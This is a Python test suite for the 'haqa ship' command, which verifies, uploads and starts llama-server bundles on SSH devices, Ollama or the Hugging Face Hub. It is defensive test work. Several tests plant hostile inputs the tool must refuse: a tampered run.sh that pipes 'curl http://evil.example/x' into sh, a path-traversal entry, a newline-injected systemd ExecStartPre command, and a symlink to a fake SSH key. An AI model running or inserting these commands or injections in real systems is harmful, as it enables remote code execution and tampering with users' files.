"""`haqa ship`: a bundle checked, uploaded by hash, started and health-checked on a device.

The device is this machine behind the real OpenSSH server of conftest (no user systemd there, so the
server runs as a detached process). The slow tests ship a real bundle: the real SmolLM2 GGUF and the
static llama-server from the cached toolchain, answering a real chat completion through the openai
client. Fast tests ship a small bundle (a tiny GGUF, and a placeholder where llama-server goes, which
they never start) to check what is refused before anything runs. Neither an Ollama server nor the
Hugging Face Hub can run here, so stand-in HTTP servers record the exact requests their clients send.
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import http.client
import http.server
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

import pytest

from haqa.bundle import write_bundle
from haqa.bundle.lock import parse
from haqa.hashing import sha256_file
from haqa.probe import local_facts
from haqa.runtime import RuntimeConfig
from tests.conftest import REPO, connect_for, free_port, write_tiny_gguf
from tests.support.http import StandIn, json_answer

RECIPE = "smollm2-135m"
LABEL = f"{RECIPE}@local"
CONFIG = RuntimeConfig(threads=2, ctx_size=512, batch_size=512)


# -- bundles -------------------------------------------------------------------------------------

def make_bundle(out: Path, model: Path, server: Path, *, peak_bytes: int) -> Path:
    """A bundle as `haqa deploy` writes it: the lock of a real deploy (tests/data), made for this machine
    (the `local` target) with the model, flags and predicted peak given here."""
    facts = local_facts()
    target = {"name": "local", "os": facts.pop("os"), "hardware": facts, "limits": {"memory_headroom_gib": 1.0}}
    lock = json.loads((REPO / "tests" / "data" / "lock-smollm2-135m.json").read_text())
    lock["target"] = {"name": "local", "facts": target}
    lock["recipe"]["name"] = RECIPE
    lock["llama_cpp"]["cmake_options"] = {"BUILD_SHARED_LIBS": "OFF"}
    lock["model"]["file_type"] = "Q4_1"
    lock["runtime"] = {**CONFIG.as_dict(), "server_args": CONFIG.server_args()}
    lock["metrics"]["memory"]["deployment_predicted"] = {"host_bytes": peak_bytes, "gpu_bytes": 0,
                                                         "basis": "predicted (haqa memory model)"}
    return write_bundle(out, model=model, model_name=f"{RECIPE}-Q4_1.gguf", server_binary=server,
                        lock=parse(lock, out / "haqa.lock.json"),
                        server_args=CONFIG.server_args(), label=LABEL, alias=RECIPE, config=CONFIG, recipe=RECIPE)


@pytest.fixture
def small_bundle(tmp_path) -> Path:
    """A tiny GGUF, and a placeholder llama-server: for tests that must refuse before anything runs."""
    placeholder = tmp_path / "placeholder-server"
    placeholder.write_text("#!/bin/sh\necho 'placeholder: never started by these tests' >&2\nexit 1\n")
    return make_bundle(tmp_path / "dist" / LABEL, write_tiny_gguf(tmp_path / "tiny.gguf"), placeholder,
                       peak_bytes=64 * 2**20)


def rewrite_sums(bundle: Path, name: str) -> None:
    """Write the line of `name` in SHA256SUMS again for its current content, as anyone can."""
    sums = bundle / "SHA256SUMS"
    lines = [f"{sha256_file(bundle / name)}  {name}" if line.endswith(f"  {name}") else line
             for line in sums.read_text().splitlines()]
    sums.unlink()
    sums.write_text("\n".join(lines) + "\n")


def replace_file(bundle: Path, name: str, data: bytes) -> None:
    """New bytes for a bundle file, with its SHA256SUMS line written again."""
    (bundle / name).unlink()  # a new file: never write through a hard link into haqa's cache
    (bundle / name).write_bytes(data)
    rewrite_sums(bundle, name)


def edit_lock(bundle: Path, change) -> None:
    """Change the lock and write SHA256SUMS again, as a bundle made for another device would have."""
    lock = json.loads((bundle / "haqa.lock.json").read_text())
    change(lock)
    replace_file(bundle, "haqa.lock.json", json.dumps(lock).encode())


@pytest.fixture(scope="module")
def real_parts() -> tuple[Path, Path]:
    """The real SmolLM2 GGUF and the static llama-server built for this machine (haqa's cache)."""
    from haqa.config import find_file, load_recipe, load_target
    from haqa.model.source import resolve_model
    from haqa.runner import LocalRunner
    from haqa.toolchain import ensure_toolchain

    toolchain = ensure_toolchain(LocalRunner(), load_target("local"))
    model = resolve_model(load_recipe(RECIPE), find_file("recipes", RECIPE).parent)
    return model.path, Path(toolchain.bin("llama-server"))


@pytest.fixture
def real_bundle(real_parts, tmp_path) -> Path:
    from haqa.model import memory

    model, server = real_parts
    facts = local_facts()
    peak = memory.predict(memory.ModelShape.from_gguf(model), n_ctx=CONFIG.ctx_size, ubatch=CONFIG.ubatch_size,
                          batch=CONFIG.batch_size, arch=facts["arch"], cpu_features=facts["cpu_features"])
    return make_bundle(tmp_path / "dist" / LABEL, model, server, peak_bytes=round(peak.host))


# -- the device ----------------------------------------------------------------------------------

def _alive(pid: int) -> bool:
    try:
        return "zombie" not in Path(f"/proc/{pid}/status").read_text()
    except FileNotFoundError:
        return False


def _stop(pid: int) -> None:
    with contextlib.suppress(ProcessLookupError):
        os.kill(pid, signal.SIGTERM)
    deadline = time.monotonic() + 10
    while _alive(pid) and time.monotonic() < deadline:
        time.sleep(0.1)
    if _alive(pid):
        os.kill(pid, signal.SIGKILL)


@pytest.fixture
def device(project, sshd, tmp_path, monkeypatch, request) -> Path:
    """targets/loop.toml: this machine through the test sshd, with a work folder of its own. Returns
    the folder the bundle is installed in there; a server left running there is stopped afterwards."""
    monkeypatch.setenv("HAQA_HOME", str(tmp_path / "haqa-home"))
    workdir = tmp_path / "device"
    project.write("targets/loop.toml", sshd.target_toml("loop", workdir))
    install = workdir / "bundles" / LABEL

    def stop_server() -> None:
        pidfile = install / "server.pid"
        if pidfile.exists():
            _stop(int(pidfile.read_text()))

    request.addfinalizer(stop_server)
    return install


def _no_traceback(err: str) -> None:
    assert "Traceback" not in err and "internal error" not in err


def _tok_per_s(err: str) -> float:
    m = re.search(r"health check passed: (\d+) tokens in ([\d.]+) s = ([\d.]+) tok/s", err)
    assert m, err
    return float(m.group(3))


# -- stand-in HTTP servers -----------------------------------------------------------------------

def ollama_answer(method: str, path: str, body: bytes):
    if path == "/api/tags":
        return 200, {"models": []}
    if path.startswith("/api/blobs/sha256:"):
        return (201, {}) if hashlib.sha256(body).hexdigest() == path.rsplit(":", 1)[1] else (400, {"error": "digest"})
    if path == "/api/create":
        return 200, {"status": "success"}
    return 404, {"error": "not found"}


# -- fast: runner forwarding, refusals, clients ---------------------------------------------------

def test_forward_reaches_a_port_on_the_device_and_closes_a_refused_one(sshd, tmp_path):
    from haqa.runner.ssh import SshRunner

    runner = SshRunner(connect_for(sshd, tmp_path), label="loop")
    try:
        with StandIn(json_answer(lambda m, p, b: (200, {"path": p}))) as web:
            port = int(web.url.rsplit(":", 1)[1])
            with runner.forward(port) as (host, local_port):
                assert local_port != port
                with urllib.request.urlopen(f"http://{host}:{local_port}/x", timeout=10) as r:
                    assert json.load(r) == {"path": "/x"}
        with runner.forward(free_port()) as (host, local_port):
            start = time.monotonic()
            with pytest.raises((OSError, http.client.HTTPException)):
                urllib.request.urlopen(f"http://{host}:{local_port}/", timeout=10)
            assert time.monotonic() - start < 5  # refused at once, not after a timeout
    finally:
        runner.close()


@pytest.mark.parametrize("damage, message", [
    (lambda b: ((b / "run.sh").unlink(), (b / "run.sh").write_text("#!/bin/sh\nexec evil\n")),
     "run.sh does not match SHA256SUMS"),
    (lambda b: (b / "Modelfile").unlink(), "Modelfile is listed in SHA256SUMS but missing"),
    (lambda b: (b / "SHA256SUMS").write_text((b / "SHA256SUMS").read_text() + f"{'0' * 64}  ../../.ssh/x\n"),
     "not a plain path inside the bundle"),
])
def test_a_damaged_bundle_is_refused_before_anything_is_uploaded(small_bundle, device, haqa, damage, message):
    damage(small_bundle)
    code, out, err = haqa("ship", str(small_bundle), "--target", "loop")
    assert code == 2, err
    assert message in err and "hint:" in err, err
    _no_traceback(err)
    assert not device.parent.exists()  # nothing reached the device


@pytest.mark.parametrize("change, reason", [
    (lambda lock: lock["target"]["facts"].update(os="macos"), "the bundle is for macos, the device runs linux"),
    (lambda lock: lock["target"]["facts"]["hardware"].update(arch="aarch64"),
     "the bundled llama-server is a native aarch64 program, the device's CPU is x86_64"),
    (lambda lock: lock["target"]["facts"]["hardware"]["cpu_features"].append("sve2"),
     "built for the CPU it was measured on (GGML_NATIVE), which has sve2"),
    (lambda lock: lock["metrics"]["memory"]["deployment_predicted"].update(host_bytes=4096 * 2**30),
     "the memory model predicts a peak of 4096.00 GiB in RAM (context 512); with the target's 1 GiB headroom "
     "that needs 4097.00 GiB, and the device has"),
])
def test_a_device_the_bundle_does_not_fit_is_refused_with_the_reason(small_bundle, device, haqa, change, reason):
    if local_facts()["arch"] != "x86_64":
        pytest.skip("the expected messages name this machine as x86_64")
    edit_lock(small_bundle, change)
    code, out, err = haqa("ship", str(small_bundle), "--target", "loop")
    assert code == 2, err
    assert f"{LABEL} cannot run on loop: " in err and reason in err, err
    assert "hint: deploy the recipe for this device" in err
    _no_traceback(err)
    assert not device.parent.exists()


def test_a_port_in_use_on_the_device_is_refused(small_bundle, device, haqa):
    with StandIn(json_answer(lambda m, p, b: (200, {"status": "ok"}))) as other:
        port = other.url.rsplit(":", 1)[1]
        code, out, err = haqa("ship", str(small_bundle), "--target", "loop", "--port", port)
    assert code == 2, err
    assert f"port {port} on loop is already in use (something answered HTTP 200)" in err and "--port" in err
    _no_traceback(err)
    assert not (device / "server.pid").exists()


@pytest.mark.parametrize("args, message", [
    ([], "say where to ship the bundle"),
    (["--target", "loop", "--ollama-name", "x"], "--ollama-host and --ollama-name go with --ollama"),
    (["--ollama"], "--ollama needs --target"),
    (["--target", "loop", "--host", "a b"], "is not an address"),
    (["--ollama", "--ollama-host", "127.0.0.1:11434"], "is not an http(s) URL"),
])
def test_bad_options_get_one_clear_message(small_bundle, device, haqa, args, message):
    code, out, err = haqa("ship", str(small_bundle), *args)
    assert code == 2 and message in err, err
    _no_traceback(err)


def test_ollama_gets_the_gguf_as_a_blob_and_the_modelfile_parameters(small_bundle, haqa):
    """No Ollama server can run here, so a stand-in on 127.0.0.1 records the exact requests the
    ollama client sends: the GGUF's bytes to /api/blobs/sha256:<its digest>, then /api/create with
    the file named by that digest and the Modelfile's parameters."""
    gguf = small_bundle / f"{RECIPE}-Q4_1.gguf"
    digest = f"sha256:{sha256_file(gguf)}"
    with StandIn(json_answer(ollama_answer)) as ollama:
        code, out, err = haqa("ship", str(small_bundle), "--ollama", "--ollama-host", ollama.url)
    assert code == 0, err
    assert out.strip() == f"ollama: {RECIPE}-haqa"
    blob, create = ollama.requests[-2:]
    assert (blob["method"], blob["path"]) == ("POST", f"/api/blobs/{digest}") and blob["body"] == gguf.read_bytes()
    assert (create["method"], create["path"]) == ("POST", "/api/create")
    assert json.loads(create["body"]) == {
        "model": f"{RECIPE}-haqa", "stream": False, "files": {gguf.name: digest},
        "parameters": {"num_ctx": 512, "num_thread": 2, "num_gpu": 0, "num_batch": 512},
    }
    modelfile = (small_bundle / "Modelfile").read_text()
    assert "PARAMETER num_ctx 512" in modelfile and "PARAMETER num_batch 512" in modelfile


def test_ollama_asked_for_but_not_running_is_a_clear_error(small_bundle, haqa):
    code, out, err = haqa("ship", str(small_bundle), "--ollama", "--ollama-host", f"http://127.0.0.1:{free_port()}")
    assert code == 2 and "no Ollama server answers at" in err and "ollama serve" in err, err
    _no_traceback(err)


def test_to_hf_creates_the_repo_and_commits_every_file(small_bundle, tmp_path):
    """The Hugging Face Hub cannot be reached from here, so a stand-in endpoint (HF_ENDPOINT) records
    the requests huggingface_hub sends: create the repo, ask how to upload each file (preupload),
    upload the large ones through the LFS batch API, and commit. HF_HUB_DISABLE_XET=1 because the
    stand-in speaks plain LFS, not the Hub's xet protocol."""
    token = "hf_standin_" + "x" * 30
    repo = "me/smollm2-haqa"
    uploads: dict[str, bytes] = {}

    def answer(method: str, path: str, body: bytes):
        if path == "/api/repos/create":
            return 200, {"url": f"{hub.url}/{repo}"}
        if path == f"/api/models/{repo}/preupload/main":
            files = json.loads(body)["files"]
            return 200, {"files": [{"path": f["path"], "shouldIgnore": False,
                                    "uploadMode": "lfs" if f["path"].endswith(".gguf") or f["path"].startswith("bin/")
                                    else "regular"} for f in files]}
        if path == f"/{repo}.git/info/lfs/objects/batch":
            return 200, {"transfer": "basic", "objects": [
                {"oid": o["oid"], "size": o["size"], "actions": {"upload": {"href": f"{hub.url}/lfs/{o['oid']}"}}}
                for o in json.loads(body)["objects"]]}
        if path.startswith("/lfs/"):
            uploads[path.rsplit("/", 1)[1]] = body
            return 200, {}
        if path == f"/api/models/{repo}/commit/main":
            return 200, {"commitUrl": f"{hub.url}/{repo}/commit/0123abcd", "commitOid": "0123abcd",
                         "pullRequestUrl": None}
        return 404, {"error": f"the stand-in does not serve {method} {path}"}

    with StandIn(json_answer(answer)) as hub:
        env = {**os.environ, "HF_ENDPOINT": hub.url, "HF_TOKEN": token, "HF_HUB_DISABLE_XET": "1",
               "HF_HOME": str(tmp_path / "hf-home"), "HAQA_HOME": str(tmp_path / "haqa-home")}
        proc = subprocess.run([sys.executable, "-m", "haqa", "ship", str(small_bundle), "--to-hf", repo, "--private"],
                              cwd=REPO, capture_output=True, text=True, env=env, timeout=120)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.strip() == f"hugging face: {hub.url}/{repo}/commit/0123abcd"
    assert token not in proc.stdout + proc.stderr
    by_path = {r["path"]: r for r in hub.requests}
    create = by_path["/api/repos/create"]
    assert json.loads(create["body"]) == {"name": "smollm2-haqa", "organization": "me", "visibility": "private"}
    for path in ("/api/repos/create", f"/api/models/{repo}/preupload/main", f"/{repo}.git/info/lfs/objects/batch",
                 f"/api/models/{repo}/commit/main"):
        assert by_path[path]["headers"]["authorization"] == f"Bearer {token}"
    listed = {line.split("  ", 1)[1]: line.split("  ", 1)[0]
              for line in (small_bundle / "SHA256SUMS").read_text().splitlines()}
    expected = {*listed, "SHA256SUMS"}
    preupload = json.loads(by_path[f"/api/models/{repo}/preupload/main"]["body"])
    assert {f["path"] for f in preupload["files"]} == expected
    lines = [json.loads(line) for line in by_path[f"/api/models/{repo}/commit/main"]["body"].splitlines()]
    assert lines[0] == {"key": "header", "value": {"summary": f"haqa bundle {LABEL}", "description": ""}}
    committed = {item["value"]["path"]: item for item in lines[1:]}
    assert set(committed) == expected
    for name in ("bin/llama-server", f"{RECIPE}-Q4_1.gguf"):  # through LFS, by their sha256
        assert committed[name]["key"] == "lfsFile" and committed[name]["value"]["oid"] == listed[name]
        assert uploads[listed[name]] == (small_bundle / name).read_bytes()
    lock = committed["haqa.lock.json"]
    assert (lock["key"] == "file"
            and base64.b64decode(lock["value"]["content"]) == (small_bundle / "haqa.lock.json").read_bytes())


def test_to_hf_without_a_token_says_how_to_log_in(small_bundle, tmp_path):
    env = {k: v for k, v in os.environ.items() if k != "HF_TOKEN"}
    env.update(HF_HOME=str(tmp_path / "hf-home"), HF_ENDPOINT="http://127.0.0.1:9", HAQA_HOME=str(tmp_path / "h"))
    proc = subprocess.run([sys.executable, "-m", "haqa", "ship", str(small_bundle), "--to-hf", "me/x"],
                          cwd=REPO, capture_output=True, text=True, env=env, timeout=120)
    assert proc.returncode == 2 and "no Hugging Face token" in proc.stderr and "HF_TOKEN" in proc.stderr
    _no_traceback(proc.stderr)


# -- fast: hostile and careless bundles --------------------------------------------------------------

def test_a_lock_name_that_is_a_path_is_refused_and_nothing_outside_the_bundles_folder_is_touched(
        small_bundle, device, haqa):
    """target.name = "../../../../x", SHA256SUMS written again: the install folder would be
    <workdir>/bundles/smollm2-135m@../../../../x, that is <workdir>/../x, where ship removed "stale" files."""
    outside = device.parent.parent.parent / "x"
    outside.mkdir()
    (outside / "notes.txt").write_text("the user's own file")
    edit_lock(small_bundle, lambda lock: lock["target"].update(name="../../../../x"))
    code, out, err = haqa("ship", str(small_bundle), "--target", "loop", "--port", str(free_port()), "--wait", "5")
    assert code == 2, err
    assert "'target.name': names are lower case letters" in err and "got '../../../../x'" in err, err
    _no_traceback(err)
    assert sorted(os.listdir(outside)) == ["notes.txt"] and (outside / "notes.txt").read_text() == "the user's own file"
    assert not device.parent.exists()  # not even the bundles folder was made


@pytest.mark.parametrize("key, name", [("target", "local\nExecStartPre=/bin/sh -c 'touch /tmp/owned'"),
                                       ("recipe", "smollm2-135m\n[Service]")], ids=["target", "recipe"])
def test_a_name_with_a_newline_is_refused_before_anything_is_uploaded(small_bundle, device, haqa, key, name):
    edit_lock(small_bundle, lambda lock: lock[key].update(name=name))
    code, out, err = haqa("ship", str(small_bundle), "--target", "loop", "--port", str(free_port()), "--wait", "5")
    assert code == 2 and f"'{key}.name': names are lower case letters" in err, err
    _no_traceback(err)
    assert not device.parent.exists()


@pytest.mark.parametrize("kind", ["folder", "link"])
def test_an_existing_folder_haqa_did_not_make_keeps_its_files(small_bundle, device, haqa, tmp_path, kind):
    mine = device if kind == "folder" else tmp_path / "mine"
    mine.mkdir(parents=True)
    (mine / "notes.txt").write_text("the user's own file")
    if kind == "link":  # the install path is a symbolic link to the user's folder
        device.parent.mkdir(parents=True)
        device.symlink_to(mine)
    code, out, err = haqa("ship", str(small_bundle), "--target", "loop", "--port", str(free_port()), "--wait", "5")
    assert code == 2, err
    what = "a folder haqa did not make (it has no .haqa-install" if kind == "folder" else "a symbolic link"
    assert f"{device} on the device is {what}" in err and "hint: move it out of the way" in err, err
    _no_traceback(err)
    assert os.listdir(mine) == ["notes.txt"] and (mine / "notes.txt").read_text() == "the user's own file"


def test_an_install_of_an_earlier_haqa_is_taken_over_and_its_stale_files_removed(small_bundle, device, haqa):
    """A folder with a lock and run.sh but no marker (what haqa before the marker wrote) is haqa's: it
    gets the marker, and a file the new bundle does not list is removed. The placeholder server then
    stops at once, so ship fails after the upload, which is what this test looks at."""
    device.mkdir(parents=True)
    for name in ("haqa.lock.json", "run.sh", "old-Q8_0.gguf"):
        (device / name).write_text("from an earlier bundle")
    code, out, err = haqa("ship", str(small_bundle), "--target", "loop", "--port", str(free_port()), "--wait", "5")
    assert "removed 1 file(s) an earlier bundle left in" in err, err
    assert (device / ".haqa-install").is_file() and not (device / "old-Q8_0.gguf").exists()
    assert (device / "haqa.lock.json").read_bytes() == (small_bundle / "haqa.lock.json").read_bytes()
    assert code == 2 and "llama-server stopped before it answered /health" in err


def _link_a_listed_file(bundle: Path, outside: Path) -> None:
    # The same bytes outside the bundle, so the sha256 still matches: only the link is wrong.
    shutil.copy(bundle / "Modelfile", outside / "Modelfile")
    (bundle / "Modelfile").unlink()
    (bundle / "Modelfile").symlink_to(outside / "Modelfile")


def _link_a_parent_folder(bundle: Path, outside: Path) -> None:
    shutil.copytree(bundle / "bin", outside / "bin")
    shutil.rmtree(bundle / "bin")
    (bundle / "bin").symlink_to(outside / "bin")


def _link_an_unlisted_entry(bundle: Path, outside: Path) -> None:
    (outside / "id_ed25519").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
    (bundle / "notes").symlink_to(outside / "id_ed25519")


@pytest.mark.parametrize("link", [_link_a_listed_file, _link_a_parent_folder, _link_an_unlisted_entry],
                         ids=["listed file", "parent folder", "unlisted entry"])
def test_a_symbolic_link_in_a_bundle_is_refused(small_bundle, device, haqa, tmp_path, link):
    outside = tmp_path / "outside"
    outside.mkdir()
    link(small_bundle, outside)
    code, out, err = haqa("ship", str(small_bundle), "--target", "loop", "--port", str(free_port()), "--wait", "5")
    assert code == 2 and "is a symbolic link (to " in err and "refuses to read through a link" in err, err
    _no_traceback(err)
    assert not device.parent.exists()


def _append_to_sums(bundle: Path, data: bytes) -> None:
    with open(bundle / "SHA256SUMS", "ab") as f:
        f.write(data)


def _lock_a_folder(bundle: Path) -> None:
    (bundle / "haqa.lock.json").unlink()
    (bundle / "haqa.lock.json").mkdir()


# Broken locks, each with the message it gets (test_from_lock.py gives them to `deploy --from-lock` too).
LOCK_DAMAGE = [
    pytest.param(lambda b: edit_lock(b, lambda lock: lock["target"].update(facts=[])),
                 "'target.facts': Input should be a valid dictionary", id="target.facts a list"),
    pytest.param(lambda b: edit_lock(b, lambda lock: lock["metrics"].pop("memory")),
                 "'metrics.memory' is missing", id="metrics without memory"),
    pytest.param(lambda b: edit_lock(b, lambda lock: lock["runtime"].update(turbo=True)),
                 "'runtime.turbo' is not a key haqa knows there; valid: threads, ctx_size", id="unknown runtime knob"),
    pytest.param(lambda b: edit_lock(b, lambda lock: lock["runtime"].update(threads="2")),
                 "'runtime.threads': Input should be a valid integer (got '2')", id="runtime knob of the wrong type"),
    pytest.param(lambda b: edit_lock(b, lambda lock: lock["model"].update(file_type=5)),
                 "'model.file_type': Input should be a valid string (got 5)", id="file_type not a string"),
    pytest.param(lambda b: edit_lock(b, lambda lock: lock["model"].update(file_type="Q9_X")),
                 "'model.file_type': not a GGUF quant type haqa knows, got 'Q9_X'", id="unknown quant"),
    pytest.param(lambda b: edit_lock(b, lambda lock: lock["runtime"].pop("threads")),
                 "'runtime.threads' is missing", id="runtime without threads"),
    pytest.param(lambda b: replace_file(b, "haqa.lock.json", b'{"target": "\xff"}'),
                 "haqa.lock.json is not a haqa lock: it is not UTF-8 text", id="lock not UTF-8"),
    pytest.param(lambda b: replace_file(b, "haqa.lock.json", b"[1, 2]"),
                 "haqa.lock.json is not a haqa lock: it holds a JSON list", id="lock a JSON list"),
    pytest.param(_lock_a_folder, "haqa.lock.json is a folder, where SHA256SUMS lists a file", id="lock a folder"),
    pytest.param(lambda b: _append_to_sums(b, b"\xff\xfe\n"), "SHA256SUMS is not UTF-8 text", id="sums not UTF-8"),
]


@pytest.mark.parametrize("damage, message", LOCK_DAMAGE)
def test_a_lock_of_the_wrong_shape_gets_one_clear_message(small_bundle, device, haqa, damage, message):
    damage(small_bundle)
    code, out, err = haqa("ship", str(small_bundle), "--target", "loop")
    assert code == 2 and message in err and "hint:" in err, err
    _no_traceback(err)
    assert not device.parent.exists()


def _bundle_of(path: Path):
    from haqa.ship.verify import verify_bundle

    return verify_bundle(path)


def test_a_config_folder_or_home_the_device_prints_with_a_newline_is_refused(small_bundle, tmp_path, monkeypatch):
    """The device is this machine through the local runner; its XDG_CONFIG_HOME, HOME and `id -u` are
    what a hostile device would print (`id` is a script on PATH printing two lines)."""
    from haqa.errors import UserError
    from haqa.runner import LocalRunner
    from haqa.ship.service import LaunchdService, SystemdUserService

    bundle, dest, runner = _bundle_of(small_bundle), tmp_path / "install", LocalRunner(tmp_path / "home")
    monkeypatch.setenv("XDG_CONFIG_HOME", f"{tmp_path}/conf\nig")
    with pytest.raises(UserError, match="the user's config folder on the device is .*not an absolute plain path"):
        SystemdUserService(runner, bundle, dest, "127.0.0.1", 8080).start()
    monkeypatch.setenv("HOME", f"{tmp_path}/ho\nme")
    with pytest.raises(UserError, match="the user's home on the device is .*not an absolute plain path"):
        LaunchdService(runner, bundle, dest, "127.0.0.1", 8080).start()
    assert not (tmp_path / "conf\nig").exists() and not (tmp_path / "ho\nme").exists()
    fake = tmp_path / "bin"
    fake.mkdir()
    (fake / "id").write_text("#!/bin/sh\nprintf '501\\nevil'\n")
    (fake / "id").chmod(0o755)
    monkeypatch.setenv("PATH", f"{fake}:{os.environ['PATH']}")
    with pytest.raises(UserError, match="`id -u` on the device printed '501\\\\nevil', not a user id"):
        LaunchdService(runner, bundle, dest, "127.0.0.1", 8080).stop()


# -- fast: signatures (real keys made by ssh-keygen) ---------------------------------------------------

def _keygen(*args: str, cwd: Path | None = None) -> None:
    subprocess.run(["ssh-keygen", "-q", *args], cwd=cwd, check=True, capture_output=True, timeout=60)


def _make_key(folder: Path, who: str) -> tuple[Path, str]:
    """A new ed25519 key and its allowed-signers line for the haqa-bundle namespace."""
    key = folder / who
    _keygen("-t", "ed25519", "-N", "", "-C", who, "-f", str(key))
    return key, f'{who} namespaces="haqa-bundle" {Path(f"{key}.pub").read_text().strip()}\n'


@pytest.fixture
def signer(tmp_path) -> tuple[Path, Path]:
    """(private key, allowed-signers file that trusts it)."""
    if not shutil.which("ssh-keygen"):
        pytest.skip("ssh-keygen is not installed")
    keys = tmp_path / "keys"
    keys.mkdir()
    key, line = _make_key(keys, "maker@example.com")
    (keys / "allowed_signers").write_text(line)
    return key, keys / "allowed_signers"


def sign(bundle: Path, key: Path) -> None:
    """What the README tells a bundle's maker to run."""
    _keygen("-Y", "sign", "-f", str(key), "-n", "haqa-bundle", "SHA256SUMS", cwd=bundle)


def test_a_signed_bundle_verifies_and_ships(small_bundle, signer, haqa):
    key, allowed = signer
    sign(small_bundle, key)
    with StandIn(json_answer(ollama_answer)) as ollama:
        code, out, err = haqa("ship", str(small_bundle), "--allowed-signers", str(allowed),
                              "--ollama", "--ollama-host", ollama.url)
    assert code == 0, err
    assert f"which maker@example.com signed (a key in {allowed})" in err and "not listed" not in err, err


def test_a_tampered_run_sh_with_recomputed_sums_fails_the_signature(small_bundle, signer, device, haqa):
    key, allowed = signer
    sign(small_bundle, key)
    replace_file(small_bundle, "run.sh", b"#!/bin/sh\ncurl -s http://evil.example/x | sh\n")
    code, out, err = haqa("ship", str(small_bundle), "--target", "loop", "--allowed-signers", str(allowed))
    assert code == 2, err
    assert "SHA256SUMS.sig does not verify for SHA256SUMS" in err and "refusing the bundle" in err, err
    _no_traceback(err)
    assert not device.parent.exists()


def test_a_bundle_signed_by_another_key_or_not_at_all_is_refused(small_bundle, signer, device, haqa, tmp_path):
    _, allowed = signer
    code, out, err = haqa("ship", str(small_bundle), "--target", "loop", "--allowed-signers", str(allowed))
    assert code == 2 and "has no SHA256SUMS.sig" in err and "ssh-keygen -Y sign" in err, err
    other, _ = _make_key(tmp_path / "keys", "someone@else.example")
    sign(small_bundle, other)
    code, out, err = haqa("ship", str(small_bundle), "--target", "loop", "--allowed-signers", str(allowed))
    assert code == 2 and "SHA256SUMS.sig was not made by any key in" in err, err
    _no_traceback(err)
    assert not device.parent.exists()


# -- slow: the real bundle on the loopback device ---------------------------------------------------

@pytest.mark.slow
def test_ship_to_the_ssh_device_starts_the_server_and_passes_the_health_check(real_bundle, device, haqa):
    from openai import OpenAI

    port = free_port()
    code, out, err = haqa("ship", str(real_bundle), "--target", "loop", "--port", str(port))
    assert code == 0, err
    files = len((real_bundle / "SHA256SUMS").read_text().splitlines())
    assert f"uploaded {files} file(s), 0 already on the device" in err
    assert "started llama-server as a detached process" in err and "no user systemd on the device" in err
    assert _tok_per_s(err) > 0 and "client-side" in out and "one chat completion through the openai client" in err
    assert out.startswith(f"{LABEL} on loop: http://127.0.0.1:{port}/v1 (detached process")
    for name in ("run.sh", "bin/llama-server"):
        assert os.access(device / name, os.X_OK)
    assert oct((device / "haqa.lock.json").stat().st_mode & 0o777) == "0o644"
    first = int((device / "server.pid").read_text())
    assert _alive(first)
    # The server answers on the device's own port too (the device is this machine).
    models = OpenAI(base_url=f"http://127.0.0.1:{port}/v1", api_key="x", max_retries=0, timeout=30).models.list()
    assert [m.id for m in models.data] == [RECIPE]

    code, out, err = haqa("ship", str(real_bundle), "--target", "loop", "--port", str(port))
    assert code == 0, err
    assert f"uploaded 0 file(s), {files} already on the device (same sha256)" in err
    assert "stopped the running server" in err and _tok_per_s(err) > 0
    second = int((device / "server.pid").read_text())
    assert second != first and _alive(second) and not _alive(first)


@pytest.mark.slow
def test_a_server_that_fails_to_start_shows_its_log(real_parts, tmp_path, device, haqa):
    """The real llama-server, given a GGUF it cannot run (tensors but no vocabulary), exits; ship says
    so with the tail of its log and exits non-zero."""
    _, server = real_parts
    bundle = make_bundle(tmp_path / "bad" / LABEL, write_tiny_gguf(tmp_path / "tiny.gguf"), server,
                         peak_bytes=64 * 2**20)
    code, out, err = haqa("ship", str(bundle), "--target", "loop", "--port", str(free_port()), "--wait", "60")
    assert code == 2, err
    assert "llama-server stopped before it answered /health; the last lines of its log:" in err
    assert "failed to load model" in err or "error" in err.lower()
    assert "hint: the server is installed as a detached process" in err
    _no_traceback(err)


@pytest.mark.slow
def test_ollama_on_the_device_is_reached_through_the_ssh_forward(real_bundle, device, haqa):
    """No Ollama server can run here, so a stand-in listens on the device's Ollama port (this machine's
    11434) and records what the ollama client sends through the SSH port forward."""
    try:
        standin = StandIn(json_answer(ollama_answer), port=11434)
    except OSError:
        pytest.skip("port 11434 is in use on this machine")
    with standin:
        code, out, err = haqa("ship", str(real_bundle), "--target", "loop", "--port", str(free_port()), "--ollama",
                              "--ollama-name", "smol-test")
    assert code == 0, err
    assert "ollama: smol-test" in out and _tok_per_s(err) > 0
    digest = sha256_file(real_bundle / f"{RECIPE}-Q4_1.gguf")
    paths = [r["path"] for r in standin.requests]
    assert paths == ["/api/tags", f"/api/blobs/sha256:{digest}", "/api/create"]
    assert json.loads(standin.requests[-1]["body"])["model"] == "smol-test"


def test_a_bad_hub_repo_name_is_refused_before_the_device_is_touched(small_bundle, device, haqa):
    code, out, err = haqa("ship", str(small_bundle), "--target", "loop", "--to-hf", "not a valid name!")
    assert code == 2 and "is not a Hugging Face repo name" in err, err
    assert "reading the facts" not in err and not device.parent.exists()
    _no_traceback(err)
